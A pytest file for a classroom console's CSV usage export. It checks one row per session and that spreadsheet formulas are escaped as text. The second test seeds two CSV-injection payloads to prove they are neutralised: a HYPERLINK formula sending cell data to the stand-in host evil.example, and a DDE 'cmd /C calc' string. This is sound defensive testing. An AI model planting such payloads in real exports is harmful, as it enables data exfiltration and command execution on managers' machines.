"""`usage --format sessions-csv`: one row per session for a manager, from the command line as from the Centre."""

from __future__ import annotations

import csv
import io
import subprocess
import sys
from pathlib import Path

from classroom_console.store import open_store


def test_one_row_per_session_with_the_managers_columns(tmp_path: Path) -> None:
    store = open_store(tmp_path)
    store.upsert_room("room:Hall 3", "Hall 3")
    for lecturer in ("Aliya Nurlanovna", "Bakyt Osmonov"):
        store.end_session(store.start_session(room_id="room:Hall 3", lecturer=lecturer, course="Physics 1"))
    store.close()
    done = subprocess.run([sys.executable, "-m", "classroom_console", "--data-dir", str(tmp_path), "usage",
                           "--format", "sessions-csv"], capture_output=True, text=True, timeout=120, check=False)
    assert done.returncode == 0, done.stderr
    rows = list(csv.reader(io.StringIO(done.stdout)))
    assert rows[0] == ["room", "date", "start", "end", "lecturer", "course", "hours", "recordings"]
    assert sorted(r[4] for r in rows[1:]) == ["Aliya Nurlanovna", "Bakyt Osmonov"]
    assert all(r[5] == "Physics 1" and r[7] == "0" for r in rows[1:])


def test_a_cell_a_spreadsheet_would_run_is_written_as_text(tmp_path: Path) -> None:
    """Course, lecturer and device names come from rooms and projectors: '=HYPERLINK(…)' must reach a manager's
    spreadsheet as text (a leading quote), in both CSV formats; numbers stay numbers (E3)."""
    course, lecturer = '=HYPERLINK("http://evil.example/?"&A1,"Physics")', "@SUM(1+1)*cmd|' /C calc'!A0"
    store = open_store(tmp_path)
    store.upsert_room("room:Hall 3", "+Hall 3")
    store.end_session(store.start_session(room_id="room:Hall 3", lecturer=lecturer, course=course))
    store.close()
    cells: list[str] = []
    for form in ("sessions-csv", "csv"):
        done = subprocess.run([sys.executable, "-m", "classroom_console", "--data-dir", str(tmp_path), "usage",
                               "--format", form], capture_output=True, text=True, timeout=120, check=False)
        assert done.returncode == 0, done.stderr
        cells += [c for row in csv.reader(io.StringIO(done.stdout)) for c in row]
    assert "'" + course in cells and "'" + lecturer in cells
    assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")]
    assert all(c.lstrip("-").replace(".", "").isdigit() for c in cells if c.startswith("-"))
